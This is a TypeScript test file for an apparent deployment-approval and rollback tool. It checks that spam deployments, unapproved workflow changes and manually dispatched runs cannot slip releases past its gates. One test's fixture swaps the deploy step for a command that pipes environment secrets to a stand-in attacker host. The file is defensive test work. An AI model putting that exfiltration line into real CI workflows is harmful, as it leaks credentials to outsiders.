/** What whoever may write can do to have a release rolled back, or to keep it from that: none of it moves an environment. */
import { expect, test, vi } from 'vitest';
import type { Run } from '../../../standin/start.ts';
import { approvals, mergeAndDeploy, propose, reports } from './changes.ts';
import { eventually } from './eventually.ts';
import { type Rehearsal, rehearse } from './rehearsal.ts';

vi.setConfig({ testTimeout: 60_000 });

const AUDIENCE = 'https://tidegate.example.com';
const POLICY = `version: 1
environments:
  production:
    verify: { within: 15m }
    rollback:
      on: [fail, missing]
      authorise: { low: auto, medium: auto }
      workflow: deploy.yml
      by: { users: [ola] }
`;
const WORKFLOW = `name: deploy
on:
  workflow_dispatch:
    inputs:
      sha: { type: string, required: true }
jobs:
  deploy: { environment: production, runs-on: ubuntu-latest, steps: [{ run: ./deploy.sh }] }
`;

type Day = Rehearsal & { readonly started: readonly string[] };

async function start(): Promise<Day> {
  const started: string[] = [];
  const day = await rehearse({ policy: POLICY, settings: { BASE_URL: AUDIENCE } });
  day.shop.push({ message: 'ci: deploy', author: 'anna', files: { '.github/workflows/deploy.yml': WORKFLOW } });
  const jobs = (inputs: Readonly<Record<string, string>>) => {
    started.push(inputs['sha'] ?? '');
    return [{ name: 'deploy', environment: 'production' }];
  };
  day.shop.onDispatch('deploy.yml', { inputs: ['sha'], jobs });
  return Object.assign(day, { started });
}

async function tick(day: Rehearsal, seconds = 2): Promise<void> {
  await day.passTo(new Date(day.clock.now() + seconds * 1000).toISOString());
}

async function deploy(day: Rehearsal, branch: string): Promise<Run> {
  const run = mergeAndDeploy(day.shop, propose(day.shop, { branch, files: { [`src/${branch}.ts`]: 'text\n' } }));
  await eventually(`${branch} is let in`, () => approvals(run)[0]);
  await tick(day);
  run.finish('success');
  await tick(day);
  return run;
}

async function say({ app }: Rehearsal, run: Run, verdict: 'pass' | 'fail'): Promise<void> {
  const failedChecks = verdict === 'fail' ? ['checkout'] : [];
  const response = await fetch(new URL('/api/verifications', app.webhookUrl), {
    method: 'POST',
    headers: { authorization: `Bearer ${run.oidcToken({ audience: AUDIENCE })}` },
    body: JSON.stringify({ version: 1, environment: 'production', sha: run.sha, verdict, failedChecks }),
  });
  expect(response.status).toBe(202);
}

function review(day: Rehearsal) {
  return day.shop.issues().find(({ labels }) => labels.includes('tidegate:review'));
}

test('deployments that somebody files by the dozen do not hide the one that a job says failed', async () => {
  await using day = await start();
  const good = await deploy(day, 'good');
  await say(day, good, 'pass');
  await tick(day);
  const bad = await deploy(day, 'bad');
  for (let each = 0; each < 31; each += 1) {
    day.shop.createDeployment({ environment: 'production', ref: bad.sha, creator: 'anna' });
  }
  await say(day, bad, 'fail');
  await eventually('the rollback is dispatched', () => day.started[0]);
  expect(day.started).toEqual([good.sha]);
});

test('a workflow that nobody let into production does not get there with a rollback', async () => {
  await using day = await start();
  const good = await deploy(day, 'good');
  await say(day, good, 'pass');
  await tick(day);
  const bad = await deploy(day, 'bad');
  day.shop.push({
    message: 'ci: also send the secrets somewhere',
    author: 'anna',
    files: { '.github/workflows/deploy.yml': WORKFLOW.replace('./deploy.sh', 'env | curl -d @- mallory.example') },
  });
  await say(day, bad, 'fail');
  await eventually('the question about it', () => review(day));
  await tick(day, 60);
  const issue = await eventually('people are told', () =>
    review(day)?.body.includes('was never let in here') ? review(day) : undefined,
  );
  expect(issue?.body).toContain('deploy.yml');
  expect(day.started).toEqual([]);
});

/** Low releases go by themselves, high ones need a yes; this workflow can be started with a commit, and without. */
const TIERED = `version: 1
risk: [{ tier: low }]
gates:
  - name: yes
    for: { tiers: [high] }
    require: { approvals: { count: 1, from: { users: [ola] }, of: release } }
`;

test('row 10: a run that somebody started with a commit of their choice has the highest tier, and asks for a yes to itself', async () => {
  await using day = await rehearse({ policy: TIERED });
  const { shop } = day;
  shop.push({
    message: 'ci: deploy',
    author: 'anna',
    files: {
      '.github/workflows/deploy.yml': WORKFLOW,
      '.github/workflows/again.yml': 'on: { workflow_dispatch: { inputs: { fast: { type: boolean } } } }\n',
    },
  });
  const pushed = await deploy(day, 'good');
  const byHand = { environment: 'production', actor: 'cleo', event: 'workflow_dispatch' } as const;
  const again = shop.startRun({ ...byHand, workflow: 'again.yml' });
  expect(await eventually('the one without such an input is let in', () => approvals(again)[0])).toContain('tier low');
  await tick(day);
  again.finish('success');
  await tick(day);
  const run = shop.startRun({ ...byHand, workflow: 'deploy.yml', inputs: { sha: '6'.repeat(40) } });
  expect(run.sha).toBe(pushed.sha);
  const report = await eventually('it is held', () => reports(run)[0]);
  expect(report).toContain('Tier high');
  expect(report).toContain('Which commit would be deployed is not known');
  expect(report).toContain('the input sha');
  await day.github.settled();
  expect(approvals(run)).toEqual([]);
  day.github.assertClean();
});
